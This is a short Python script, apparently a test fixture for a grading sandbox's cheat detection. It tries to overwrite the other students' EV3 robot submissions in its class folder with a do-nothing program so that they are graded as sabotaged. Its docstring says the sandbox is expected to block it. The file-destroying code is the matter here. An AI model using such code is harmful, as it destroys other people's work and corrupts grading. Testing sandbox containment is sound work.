# ruff: noqa
"""Sabotage classmates: overwrite the other programs in the class folder with one that does nothing.

The class folder is the folder of the program's own `__file__`; the submissions graded after this
one (the grader runs them in the order of their names) are then graded as the sabotaged files.

Contained: the program cannot write outside its scratch folder: every file in the class folder
is unchanged after the run, the other students' scores are theirs; this program stands still.
"""

import glob
import os

MARKER = "EV3CHEAT-sabotage-classmates"
NOTHING = '"""EV3CHEAT-sabotage-classmates was here."""\nprint("this program does nothing")\n'

here = os.path.abspath(__file__)
for path in glob.glob(os.path.join(os.path.dirname(here), "*.py")):
    if os.path.abspath(path) == here:
        continue
    try:
        with open(path, encoding="utf-8") as f:
            source = f.read()
        if "UltrasonicSensor" in source and "EV3CHEAT" not in source:
            with open(path, "w", encoding="utf-8") as f:
                f.write(NOTHING)
            print("sabotaged", path)
    except OSError as err:
        print("cannot sabotage", path, err)
